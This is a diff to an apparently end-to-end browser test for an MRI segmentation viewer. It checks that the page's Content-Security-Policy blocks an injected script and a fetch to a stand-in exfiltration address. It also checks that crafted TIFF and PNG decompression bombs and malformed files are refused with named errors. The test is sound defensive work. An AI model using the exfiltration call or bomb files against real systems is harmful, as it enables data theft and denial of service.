@@ -13,6 +13,13 @@ import { extname, join, normalize, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { preprocess } from '@mriseg/data';
+import {
+  pngBomb,
+  tiffDeflateBomb,
+  tiffLzwTruncated,
+  tiffWithChain,
+  tiffWithStripCount,
+} from '@mriseg/faults/fixtures';
 import { type Browser, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
@@ -215,6 +222,55 @@ describe('viewer end to end (headless Chromium, WebGPU on SwiftShader)', () => {
     expect(errors).toEqual([]);
     expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
     console.log(`e2e: demo inference done after ${inferenceSeconds.toFixed(1)} s, DSC ${shown}`);
+  });
+
+  it('refuses hostile files at once with the file and the problem, and allows nothing but its own origin', async () => {
+    const page = await browser!.newPage({ viewport: { width: 1280, height: 800 } });
+    const errors: string[] = [];
+    page.on('pageerror', (e) => errors.push(String(e)));
+    await page.goto(`${origin}/`);
+    // The Content-Security-Policy: an injected inline script does not run, a foreign fetch is refused in the page.
+    const csp = await page.evaluate(async () => {
+      const seen: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+      const s = document.createElement('script');
+      s.textContent = 'document.body.dataset.injected = "yes"';
+      document.body.append(s);
+      let fetched = true;
+      try {
+        await fetch('http://198.51.100.7/exfiltrate');
+      } catch {
+        fetched = false;
+      }
+      await new Promise((ok) => setTimeout(ok, 200));
+      return { injected: document.body.dataset.injected === 'yes', fetched, seen };
+    });
+    expect(csp.injected).toBe(false);
+    expect(csp.fetched).toBe(false);
+    expect(csp.seen).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
+
+    // Files that crashed, froze or exhausted the tab before: each refused by name, decoded off the page's thread.
+    const name = 'TCGA_ZZ_0000_20000101_1';
+    const hostile: [string, Uint8Array, RegExp][] = [
+      [`${name}.tif`, tiffWithStripCount(32, 3, 0x3fffffff), /StripOffsets\) declares 1073741823 values/],
+      [`${name}.tif`, tiffWithChain(32, 3, 1, 0), /chain of image directories loops back/],
+      [`${name}.tif`, await tiffDeflateBomb(20000, 20000, 64 << 20), /TIFF declares 20000×20000 pixels/],
+      [`${name}.png`, await pngBomb(20000, 20000, 64 << 20), /PNG declares 20000×20000 pixels/],
+      [`${name}.tif`, tiffLzwTruncated(32), /it decodes to \d+ bytes, \d+ needed/],
+    ];
+    for (const [file, bytes, problem] of hostile) {
+      await page
+        .locator('#file-input')
+        .setInputFiles([{ name: file, mimeType: 'image/tiff', buffer: Buffer.from(bytes) }]);
+      await expect.poll(() => page.locator('#error').textContent(), { timeout: 30_000 }).toMatch(problem);
+      expect(await page.locator('#error').textContent()).toMatch(
+        new RegExp(`^Bad file ${file.replace('.', '\\.')}: `),
+      );
+      // The page answers at once afterwards.
+      expect(await page.evaluate(() => document.readyState)).toBe('complete');
+    }
+    expect(errors).toEqual([]);
+    await page.close();
   });
 
   it('says clearly when there is no WebGPU adapter, and still shows the volume', async () => {
